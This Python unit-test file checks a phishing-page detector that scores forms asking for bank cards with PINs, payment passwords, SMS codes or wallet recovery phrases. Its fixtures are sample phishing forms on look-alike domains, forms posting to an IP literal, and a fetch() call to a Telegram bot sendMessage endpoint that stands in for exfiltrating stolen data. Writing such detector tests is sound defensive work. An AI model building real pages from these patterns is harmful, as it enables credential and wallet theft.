"""Unit tests for the sensitive_forms page detector."""

from __future__ import annotations

from tests.plugins.detector_helpers import MALICIOUS, SUSPICIOUS, html_doc, page_findings, view_of

from fraudwall.models import Category
from fraudwall.plugins import sensitive_forms

CARD_AND_PIN = (
    "<form><label for=a>银行卡号</label><input id=a name=cardno><label for=b>取款密码</label>"
    "<input id=b name=atmpwd type=password><label for=c>短信验证码</label><input id=c name=sms></form>"
)


def score(html: str, url: str = "http://verify-example.xyz/") -> float:
    found = page_findings(sensitive_forms, html_doc(html), url)
    return found[0].score if found else 0.0


def test_field_kinds_are_read_from_labels_placeholders_and_names() -> None:
    """Labels, placeholders, names and the password type all tell what a field asks for."""
    html = html_doc(
        "<form><label for=i>身份证号</label><input id=i name=x><input placeholder='CVV2'>"
        "<input name=paypwd placeholder='支付密码'><input type=password name=p><input name=otp></form>"
    )
    kinds = dict(view_of(html).credential_fields)
    assert {"id_number", "card_security", "payment_password", "password", "sms_code"} <= kinds.keys()


def test_inputs_outside_forms_count() -> None:
    """Kits that post inputs with a script, without a form element, are read too."""
    kinds = dict(view_of(html_doc("<div><input name=cardno placeholder='银行卡号'><input placeholder='取款密码'></div>")).credential_fields)
    assert {"bank_card", "card_pin"} <= kinds.keys()


def test_card_with_pin_is_strong_on_a_foreign_site_and_nothing_on_the_bank() -> None:
    """A card with its PIN is credential phishing on a name no brand owns, and nothing on the bank's own site."""
    finding = page_findings(sensitive_forms, html_doc(CARD_AND_PIN), "http://icbc-verify.xyz/")[0]
    assert finding.category == Category.CREDENTIAL_PHISHING.value
    assert finding.score >= 0.7 and any("取款密码" in line for line in finding.evidence)
    assert page_findings(sensitive_forms, html_doc(CARD_AND_PIN), "https://www.icbc.com.cn/verify") == []


def test_single_ordinary_fields_prove_nothing() -> None:
    """A login form (password and SMS code) or a real-name form (name, ID number) gets no finding."""
    assert score("<form><input name=user><input type=password name=pw><input name=sms placeholder='验证码'></form>") == 0.0
    assert score("<form><input placeholder='姓名'><input placeholder='身份证号'></form>") == 0.0


def test_moderate_combinations_stay_below_malicious_alone() -> None:
    """Card with CVV (a checkout) or ID + card + SMS code (a loan application) are moderate on their own."""
    checkout = score("<form><input placeholder='信用卡号'><input placeholder='CVV2'><input placeholder='卡有效期'></form>")
    elements = score("<form><input placeholder='身份证号'><input placeholder='银行卡号'><input placeholder='短信验证码'></form>")
    assert 0 < checkout < SUSPICIOUS and 0 < elements < SUSPICIOUS


def test_payment_password_is_suspicious() -> None:
    """Only a wallet asks for its payment password; anyone else asking is suspicious."""
    assert SUSPICIOUS <= score("<form><input placeholder='支付密码'></form>") < MALICIOUS


def test_odd_destinations_raise_the_score() -> None:
    """Posting to an IP literal, or a script holding a Telegram bot token, makes a form more suspect."""
    plain = score(CARD_AND_PIN)
    to_ip = score(CARD_AND_PIN.replace("<form>", "<form action='http://103.45.67.89/post.php'>"))
    bot = score(CARD_AND_PIN + "<script>fetch('https://api.telegram.org/bot123456789:AAFakeTokenForTestsOnly_abcdefgh/sendMessage')</script>")
    assert plain < to_ip and plain < bot
    finding = page_findings(sensitive_forms, html_doc(CARD_AND_PIN.replace("<form>", "<form action='http://103.45.67.89/p'>")), "http://x.top/")[0]
    assert ("form_action", "http://103.45.67.89/p") in finding.indicators


def test_a_form_asking_for_a_wallets_recovery_phrase_is_strong_alone() -> None:
    """A wallet's recovery phrase or private key, asked on a name no brand owns, is the wallet itself: strong alone."""
    chinese = "<form action='/import'><label>助记词<textarea name=m></textarea></label><button>导入钱包</button></form>"
    assert score(chinese, "https://token-im.cc/zh/import") >= sensitive_forms.SEED_PHRASE
    english = "<form><input name=phrase placeholder='Enter your 12-word secret recovery phrase'></form>"
    assert score(english, "https://wallet-sync-connect.app/") >= sensitive_forms.SEED_PHRASE
    assert score("<form><input name=q placeholder='Search'></form>", "https://wallet-sync-connect.app/") == 0
